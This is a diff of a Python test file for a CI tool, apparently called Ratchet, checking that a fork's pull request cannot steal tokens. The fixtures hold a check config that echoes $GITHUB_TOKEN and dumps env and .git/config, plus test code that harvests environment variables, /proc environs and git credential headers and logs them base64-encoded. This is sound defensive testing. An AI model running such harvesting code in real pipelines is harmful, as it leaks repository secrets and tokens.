@@ -181,43 +181,57 @@ def test_a_token_without_checks_write_is_told_in_the_summary(scene: Scene) -> No
 # The fork's own config: a check that prints every credential it can name.
 STEAL = ("verify:\n  checks:\n    - {id: steal, kind: test, run: 'echo STOLEN $GITHUB_TOKEN;"
          " cat .git/config; env'}\n")
-# The fork's test: what any test a pull request brings can do. It finds the checkout's git
+# The fork's test: what any test a pull request brings can do. It looks for the checkout's git
 # config from its worktree's .git file (and any file that config includes), reads the whole
-# environment, and writes it all to a file outside (the sandbox is off here, so nothing but
-# Ratchet's own care stands between it and the checkout) and, base64-encoded, to its log.
+# environment and every process's it can see, and prints it all base64-encoded in its log (and
+# to a file outside, when it can reach one). ``hostile(loot, procs)`` is its source.
 HOSTILE = """import base64, os, pathlib, re, unittest
 
 import calc
 
 
+def read(path):
+    try:
+        return pathlib.Path(path).read_text(errors='replace')
+    except OSError as exc:
+        return f'{path}: {exc}'
+
+
 def loot():
     found = [repr(sorted(os.environ.items()))]
-    gitdir = pathlib.Path(open('.git').read().split('gitdir:')[1].strip())
-    config = (gitdir / open(gitdir / 'commondir').read().strip()).resolve() / 'config'
-    text = config.read_text()
+    if %r:  # every process it can see (unconfined: the whole host's, so not there)
+        found += [read(f'/proc/{p}/environ') for p in os.listdir('/proc') if p.isdigit()]
+    try:
+        gitdir = pathlib.Path(read('.git').split('gitdir:')[1].strip())
+        config = (gitdir / read(gitdir / 'commondir').strip()).resolve() / 'config'
+    except (IndexError, OSError) as exc:
+        return '\\n'.join([*found, repr(exc)])
+    text = read(config)
     found.append(text)
-    for included in re.findall(r'path = (.+)', text):
-        found.append(pathlib.Path(included.strip()).read_text())
+    found += [read(included.strip()) for included in re.findall(r'path = (.+)', text)]
     return '\\n'.join(found)
 
 
 class AddTest(unittest.TestCase):
     def test_add(self):
         stolen = loot()
-        pathlib.Path(%r).write_text(stolen)
+        try:
+            pathlib.Path(%r).write_text(stolen)
+        except OSError:
+            pass
         print('LOOT', base64.b64encode(stolen.encode()).decode())
         self.assertEqual(calc.add(2, 3), 5)
 """
 
 
-def test_a_fork_on_pull_request_target_runs_the_bases_checks_and_sees_no_token(
-        scene: Scene) -> None:
-    loot = scene.root / "loot.txt"
-    payload, workspace, head = pull_request(
-        scene, {".github/ratchet.yml": STEAL, "test_calc.py": HOSTILE % str(loot)},
-        fork=True, action="synchronize")
-    # What actions/checkout leaves with persist-credentials on: v4's header in .git/config,
-    # later versions' file under RUNNER_TEMP that .git/config includes.
+def hostile(loot: Path, *, procs: bool = True) -> str:
+    return HOSTILE % (procs, str(loot))
+
+
+def persist_credentials(scene: Scene, workspace: Path) -> str:
+    """What actions/checkout leaves with persist-credentials on: v4's header in .git/config,
+    later versions' file under RUNNER_TEMP that .git/config includes, and a token in a URL;
+    the header's base64 form of the token."""
     basic = base64.b64encode(f"x-access-token:{JOB_TOKEN}".encode()).decode()
     header = f"AUTHORIZATION: basic {basic}"
     git(workspace, "config", "http.https://github.com/.extraheader", header)
@@ -227,34 +241,80 @@ def test_a_fork_on_pull_request_target_runs_the_bases_checks_and_sees_no_token(
     git(workspace, "config", "--add", "include.path", str(included))
     git(workspace, "config", "remote.origin.pushurl",
         f"https://x-access-token:{JOB_TOKEN}@github.com/{OWNER}/{REPO}.git")
+    return basic
+
+
+def looted(result: Any, loot: Path) -> tuple[str, list[str]]:
+    """What the fork's test found (decoded from its log), and every text the job left."""
+    bundle = Path(result.outputs["bundle"])
+    texts = [p.read_text(errors="replace") for p in bundle.rglob("*") if p.is_file()]
+    found = re.search(r"LOOT (\S+)", "\n".join(texts))
+    assert found, "the fork's test ran and logged what it found"
+    stolen = base64.b64decode(found.group(1)).decode(errors="replace")
+    if loot.exists():
+        texts.append(loot.read_text())
+    return stolen, texts
+
+
+def test_a_fork_on_pull_request_target_runs_the_bases_checks_and_sees_no_token(
+        scene: Scene) -> None:
+    loot = scene.root / "loot.txt"
+    payload, workspace, head = pull_request(
+        scene, {".github/ratchet.yml": STEAL, "test_calc.py": hostile(loot)},
+        fork=True, action="synchronize")
+    basic = persist_credentials(scene, workspace)
     secret = "repository-secret-" + "7" * 16
     job = scene.job("pull_request_target", payload, workspace=workspace, env={
-        "RATCHET_SANDBOX": "none", "GITHUB_TOKEN": JOB_TOKEN, "GH_TOKEN": JOB_TOKEN,
-        "DEPLOY_KEY": secret})
+        "GITHUB_TOKEN": JOB_TOKEN, "GH_TOKEN": JOB_TOKEN, "DEPLOY_KEY": secret})
     result = scene.run(job, mode="verify")
 
     assert result.exit_code == 0, result.stderr + result.stdout
     plan = json.loads((Path(result.outputs["bundle"]) / "plan.json").read_text())
     assert [c["id"] for c in plan["checks"]] == ["unit"]  # the base's check, not "steal"
-    stolen = loot.read_text()  # the fork's test ran, and found nothing of the token
-    assert "extraheader" not in stolen and "x-access-token" not in stolen
-    evidence = [stolen, *(p.read_text(errors="replace")
-                          for p in Path(result.outputs["bundle"]).rglob("*") if p.is_file())]
+    stolen, texts = looted(result, loot)
+    assert "HOME" in stolen and not loot.exists()  # it looked, from inside the sandbox
     [check] = scene.fake.check_runs(OWNER, REPO, head)  # pull_request_target may write it
     assert check.conclusion == "success"
-    evidence += [check.output_summary or "", check.output_text or ""]
-    for text in evidence:
-        for value in (JOB_TOKEN, basic, secret, "STOLEN"):
+    for text in (stolen, *texts, check.output_summary or "", check.output_text or ""):
+        for value in (JOB_TOKEN, basic, secret, "STOLEN", "extraheader"):
             assert value not in text
-    logged = re.search(r"LOOT (\S+)", "\n".join(evidence[1:]))
-    if logged:  # what the log kept of it decodes to no token either
-        assert JOB_TOKEN not in base64.b64decode(logged.group(1) + "==").decode(errors="replace")
     config = (workspace / ".git" / "config").read_text()
     assert JOB_TOKEN not in config and "extraheader" not in config and "include" not in config
     assert f"github.com/{OWNER}/{REPO}.git" in config  # the push URL kept, without its user
     [notice] = [a for a in result.annotations_at("notice") if "persist-credentials" in a.message]
     assert "http.https://github.com/.extraheader" in notice.message
     assert_no_secret(result, JOB_TOKEN, basic, secret)
+
+
+def test_the_checkout_holds_no_token_when_checks_run_even_unconfined(scene: Scene) -> None:
+    # Unconfined, the test can read the checkout's git dir: only the scrub stands in its way.
+    loot = scene.root / "loot.txt"
+    payload, workspace, _ = pull_request(scene, {"test_calc.py": hostile(loot, procs=False)})
+    basic = persist_credentials(scene, workspace)
+    job = scene.job("pull_request", payload, workspace=workspace,
+                    env={"RATCHET_SANDBOX": "none", "GH_TOKEN": JOB_TOKEN})
+    result = scene.run(job, mode="verify")
+
+    assert result.exit_code == 0, result.stderr + result.stdout
+    stolen, texts = looted(result, loot)
+    assert "[remote \"origin\"]" in loot.read_text()  # it read the checkout's config
+    for text in (stolen, *texts):
+        assert "extraheader" not in text and "x-access-token" not in text
+        assert JOB_TOKEN not in text and basic not in text
+
+
+def test_pull_request_target_is_never_verified_unconfined(scene: Scene) -> None:
+    loot = scene.root / "loot.txt"
+    payload, workspace, _ = pull_request(scene, {"test_calc.py": hostile(loot)}, fork=True)
+    job = scene.job("pull_request_target", payload, workspace=workspace,
+                    env={"RATCHET_SANDBOX": "none"})
+    result = scene.run(job, mode="verify")
+
+    assert result.exit_code == 2
+    [error] = result.annotations_at("error")
+    assert "RATCHET_SANDBOX=none" in error.message
+    assert not loot.exists()  # no check ran
+    assert check_calls(scene) == []
 
 
 def test_the_config_input_is_refused_on_pull_request_target(scene: Scene) -> None:
